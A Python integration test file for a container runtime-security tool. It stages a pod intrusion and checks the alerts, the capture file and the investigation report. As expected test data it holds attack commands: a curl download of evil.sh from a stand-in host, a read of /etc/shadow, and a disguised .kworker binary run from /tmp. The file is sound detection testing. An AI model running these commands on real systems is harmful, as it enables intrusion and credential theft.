"""An intrusion into a pod, from the first alert to the case: identity, rules, flight recorder, investigation."""

from __future__ import annotations

import json
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.containerd.host import Containerd, with_containerd
from tests.containerd.story import ELSEWHERE, Story
from tests.containerd.watching import Alert, Watching
from tests.sources.live.host import watchable

pytestmark = [pytest.mark.slow]

RAISED = {
    "Shell in container": "bash",
    "Outbound connection from container": f"curl -s http://{ELSEWHERE}/evil.sh -o /tmp/evil.sh",
    "Download into a temporary folder": f"curl -s http://{ELSEWHERE}/evil.sh -o /tmp/evil.sh",
    "Script from a temporary folder": "evil.sh /tmp/evil.sh",
    "Sensitive file read": "cat /etc/shadow",
    "New program executed in container": ".kworker -c sleep 1",
}
"""The shipped rules that tell the story, and whose command line each tells."""


@dataclass
class Told:
    """The story as it was seen: ``capture`` is the file written around its alerts."""

    story: Story
    watching: Watching
    capture: Path


@pytest.fixture(scope="module")
def told(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Told]:
    folder = tmp_path_factory.mktemp("captures")
    with Containerd.start() as host:
        story = Story(host)
        options = ("-o", "json_output=true", "-o", f"container_engines.cri.sockets={host.socket}")
        with Watching(*options, "--before", "60", "--capture-dir", str(folder)) as watching:
            story.open_shop()
            story.visit()
            time.sleep(3)
            story.break_in()
            watching.wait_for(story.shop.id, "New program executed in container")
        captures = sorted(folder.glob("*.scap"))
        yield Told(story, watching, captures[-1])


@watchable
@with_containerd
@pytest.mark.parametrize("rule", RAISED)
def test_each_step_raises_an_alert_that_names_its_pod(told: Told, rule: str) -> None:
    shop = told.story.shop
    alert = told.watching.of(shop.id, rule)[0]["output_fields"]
    assert alert["proc.cmdline"] == RAISED[rule]
    assert alert["container.name"] == "web"
    assert (alert["container.image.repository"], alert["container.image.tag"]) == ("registry.test/store/shop", "1.4")
    assert (alert["k8s.ns.name"], alert["k8s.pod.name"]) == ("store", "shop-7d9f")


@watchable
@with_containerd
def test_what_came_before_raises_nothing_but_the_visit(told: Told) -> None:
    """Starting pods, probing and serving customers is what pods are for."""
    shop, visitor = told.story.shop, told.story.visitor
    early = [alert for alert in told.watching.alerts if alert["time"] < _time(told.story.began)]
    raised = {(alert["output_fields"].get("container.id"), alert["rule"]) for alert in early}
    assert not [rule for id, rule in raised if id == shop.id[:12]]
    # to the visitor, the shop is at a public address
    assert [rule for id, rule in raised if id == visitor.id[:12]] == ["Outbound connection from container"]


@watchable
@with_containerd
def test_the_capture_holds_what_was_before(told: Told) -> None:
    shop = told.story.shop.id[:12]
    served = f"container.id = {shop} and fd.name = /srv/index.html"
    lines = tiercel("events", str(told.capture), served, "--json", "-p", "%evt.rawtime %k8s.pod.name").splitlines()
    times = [int(json.loads(line)["evt.rawtime"]) for line in lines]
    assert times
    assert told.story.visited < times[0] < told.story.began
    started = tiercel("events", str(told.capture), f"container.id = {shop} and proc.vpid = 1 and evt.type = execve")
    assert "python3" in started  # the container's first program
    carried = tiercel("events", str(told.capture), "--alerts")
    assert "New program executed in container" in carried


@watchable
@with_containerd
def test_the_capture_replays_to_the_alerts_there_were(told: Told) -> None:
    replayed = [json.loads(line) for line in tiercel("scan", str(told.capture), "--json").splitlines()]
    ids = {told.story.shop.id[:12], told.story.visitor.id[:12]}
    first, last = told.story.visited, told.story.ended

    def ours(alerts: list[Alert]) -> list[Alert]:
        span = [alert for alert in alerts if _time(first) <= alert["time"] <= _time(last)]
        return [_without_capture(alert) for alert in span if alert["output_fields"].get("container.id") in ids]

    assert ours(replayed) == ours(told.watching.alerts)


@watchable
@with_containerd
def test_investigating_the_capture_tells_the_story(told: Told, tmp_path: Path) -> None:
    case = tmp_path / "case"
    printed = tiercel("investigate", str(told.capture), "-o", str(case))
    shop = told.story.shop
    incidents = [json.loads(line) for line in tiercel("case", "incidents", str(case), "--json").splitlines()]
    incident = next(found for found in incidents if found["containers"] == [shop.id[:12]])
    assert incident["title"].startswith(
        f"bash in container {shop.id[:12]} of pod store/shop-7d9f (exec into the container)"
    )
    assert incident["severity"] == "critical"
    assert set(RAISED) <= set(incident["rules"])
    story = printed[printed.index(incident["title"]) :]
    for sentence in (
        "began as root with a terminal, by exec into the container by runc",
        f"ran curl -s http://{ELSEWHERE}/evil.sh -o /tmp/evil.sh",
        f"connected to {ELSEWHERE}:80 (public)",
        "made /tmp/evil.sh executable",
        "/tmp/evil.sh had been written by curl",
        "read /etc/shadow (passwords, keys or tokens)",
        "ran .kworker -c sleep 1 (/tmp/.kworker); /tmp/.kworker had been written by curl",
    ):
        assert sentence in story
    assert "all as recorded" in tiercel("case", "verify", str(case))
    assert list(case.rglob("*.html"))


def _without_capture(alert: Alert) -> Alert:
    """Return an alert without what it says of the capture it is in."""
    fields = {key: value for key, value in alert["output_fields"].items() if not key.startswith("capture.")}
    return {**alert, "output_fields": fields}


def _time(ns: int) -> str:
    """Return a time as alerts write it."""
    seconds, rest = divmod(ns, 1_000_000_000)
    return f"{time.strftime('%Y-%m-%dT%H:%M:%S', time.gmtime(seconds))}.{rest:09d}Z"


def tiercel(*arguments: str) -> str:
    """Run the program; return what it printed."""
    done = subprocess.run([sys.executable, "-m", "tiercel", *arguments], capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    return done.stdout
